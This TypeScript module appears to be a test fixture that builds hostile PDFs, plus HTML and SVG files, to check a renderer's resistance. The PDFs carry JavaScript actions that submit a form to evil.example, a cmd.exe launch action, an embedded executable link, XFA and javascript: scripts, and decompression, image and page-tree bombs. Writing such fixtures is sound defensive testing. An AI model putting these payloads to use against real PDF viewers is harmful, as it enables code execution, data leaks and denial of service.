import { deflateSync } from 'node:zlib';

interface PdfObject {
  readonly dictionary: string;
  readonly stream?: Buffer;
}

/** A PDF with these objects; the first is the catalogue. */
function pdfOf(objects: readonly (PdfObject | string)[]): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  const add = (part: Buffer) => {
    parts.push(part);
    length += part.length;
  };
  for (const [index, object] of objects.entries()) {
    offsets.push(length);
    const { dictionary, stream } =
      typeof object === 'string' ? { dictionary: object, stream: undefined } : object;
    add(Buffer.from(`${index + 1} 0 obj\n${dictionary}\n`));
    if (stream !== undefined)
      add(Buffer.concat([Buffer.from('stream\n'), stream, Buffer.from('\nendstream\n')]));
    add(Buffer.from('endobj\n'));
  }
  const start = length;
  add(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`,
    ),
  );
  add(
    Buffer.from(
      `trailer\n<< /Root 1 0 R /Size ${objects.length + 1} >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

const words = (text: string) => Buffer.from(`BT /F1 24 Tf 40 700 Td (${text}) Tj ET`);
const streamed = (dictionary: string, stream: Buffer): PdfObject => ({
  dictionary: `<< ${dictionary} /Length ${stream.length} >>`,
  stream,
});
const packed = (dictionary: string, stream: Buffer): PdfObject =>
  streamed(`${dictionary} /Filter /FlateDecode`, deflateSync(stream, { level: 9 }));
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/**
 * One page with these words; `more` adds to the catalogue, the page and the objects from number 6
 * on.
 */
function onePage({
  catalogue = '',
  page = '',
  box = '[0 0 595 842]',
  content = streamed('', words('Hostile')),
  more = [] as readonly (PdfObject | string)[],
}): Buffer {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox ${box} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /Im 6 0 R >> >> ${page} >>`,
    content,
    font,
    ...more,
  ]);
}

/**
 * PDFs that try to run code, to navigate, or to exhaust resources; `shown`: their page can be
 * rendered nevertheless.
 */
export const hostilePdfs: Readonly<
  Record<string, { readonly bytes: () => Buffer; readonly shown: boolean | 'either' }>
> = {
  'runs scripts, starts programs and opens addresses': {
    shown: true,
    bytes: () =>
      onePage({
        catalogue:
          '/OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >> /AcroForm << /Fields [10 0 R] /XFA 11 0 R >>',
        page: '/AA << /O 7 0 R >> /Annots [8 0 R 10 0 R]',
        more: [
          '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\({cURL: "https://evil.example/x"}\\);) >>',
          '<< /S /Launch /F (cmd.exe) /Next << /S /URI /URI (https://evil.example/launch) >> >>',
          '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:document.title=1) >> >>',
          '<< /Type /Filespec /F (https://evil.example/a.exe) /FS /URL >>',
          '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 10 10] /AA << /F 6 0 R /C 6 0 R >> >>',
          streamed(
            '',
            Buffer.from(
              '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>document.title=1</script></xdp:xdp>',
            ),
          ),
        ],
      }),
  },
  'has a page as large as a field': {
    shown: true,
    bytes: () => onePage({ box: '[0 0 200000 200000]', more: ['<< >>'] }),
  },
  'has a page as high as a tower': {
    shown: true,
    bytes: () => onePage({ box: '[0 0 595 5000000]', more: ['<< >>'] }),
  },
  'says that it has a thousand million pages': {
    shown: 'either',
    bytes: () =>
      Buffer.from(
        onePage({ more: ['<< >>'] })
          .toString('latin1')
          .replace('/Count 1 ', '/Count 1000000000 '),
        'latin1',
      ),
  },
  'has pages that contain themselves': {
    shown: 'either',
    bytes: () =>
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>',
      ]),
  },
  'has a bomb of object streams': {
    shown: 'either',
    bytes: () =>
      onePage({
        content: packed('/Type /ObjStm /N 1000000 /First 8', Buffer.alloc(200_000_000, ' ')),
        more: [packed('/Type /ObjStm /N 1000000 /First 8', Buffer.alloc(200_000_000, '1 '))],
      }),
  },
  'has a picture of ten thousand million pixels': {
    shown: 'either',
    bytes: () =>
      onePage({
        content: streamed('', Buffer.from('q 500 0 0 500 0 0 cm /Im Do Q')),
        more: [
          packed(
            '/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceGray',
            Buffer.alloc(1_000_000),
          ),
        ],
      }),
  },
  'draws without end': {
    shown: 'either',
    bytes: () =>
      onePage({ content: packed('', Buffer.alloc(60_000_000, '0 0 m 9 9 l S ')), more: ['<< >>'] }),
  },
  'is a page of HTML': {
    shown: false,
    bytes: () => Buffer.from('<html><script>document.title="hit"</script></html>'),
  },
  'is a picture with a script': {
    shown: false,
    bytes: () =>
      Buffer.from(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=\'hit\'"><script>document.title="hit"</script></svg>',
      ),
  },
};
